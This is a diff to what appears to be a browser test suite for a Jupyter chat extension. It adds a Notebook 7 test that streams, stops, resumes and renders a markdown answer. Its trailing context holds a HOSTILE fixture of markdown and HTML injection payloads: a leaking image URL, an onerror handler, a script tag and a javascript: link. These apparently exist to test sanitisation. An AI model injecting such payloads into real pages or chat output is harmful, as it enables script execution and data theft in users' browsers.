@@ -205,6 +205,35 @@ def test_stop_reaches_the_gateway_while_another_cell_blocks_the_kernel(lab: Lab,
         assert notebook.errors == []
 
 
+# Of its own accord, with any notebook.
+NOTEBOOK_7_SAYS = ["Cannot read properties of undefined (reading 'schema')"]
+
+
+def test_in_notebook_7_an_answer_streams_stops_goes_on_and_stands_as_markdown(lab: Lab) -> None:
+    pause = Pause()
+    begun = Script([chunk(content="It is **bold** 开始 🎉"), pause])
+    with model_server(begun, answer(" and `whole`.")) as server:
+        setup = f"{LOAD}\n%chat use {server.url}"
+        notebook = lab.notebook([setup, "%%chat\nWhat is it?"], classic=True)
+        notebook.run(0)
+        notebook.start(1)
+        notebook.wait_for_text(1, "It is bold 开始 🎉")
+        assert notebook.is_running(1)
+        notebook.screenshot("notebook-7-answering")
+        notebook.press(1, "Stop")
+        notebook.wait_for_cell(1, timeout=10)
+        assert server.left.wait(10)
+        wait_for_status(notebook, 1, "stopped")
+        notebook.press(1, "Resume")
+        notebook.wait_for_text(1, "It is bold 开始 🎉 and whole.")
+        notebook.wait_until("panel.content.widgets[1].node.querySelector('.ssechat-root') === null")
+        notebook.wait_until("document.querySelectorAll('.jp-OutputArea-output strong').length === 1")
+        assert notebook.data(1, "text/markdown") == ["It is **bold** 开始 🎉 and `whole`."]
+        notebook.screenshot("notebook-7-finished")
+        assert [error for error in notebook.errors if error not in NOTEBOOK_7_SAYS] == []
+        assert notebook.strangers() == []
+
+
 HOSTILE = """![pixel](http://127.0.0.1:9/leak?q=secret) <img src="http://127.0.0.1:9/leak" onerror="window.owned = 1">
 </details><script>window.owned = 1</script> [x](javascript:window.owned=1)
 
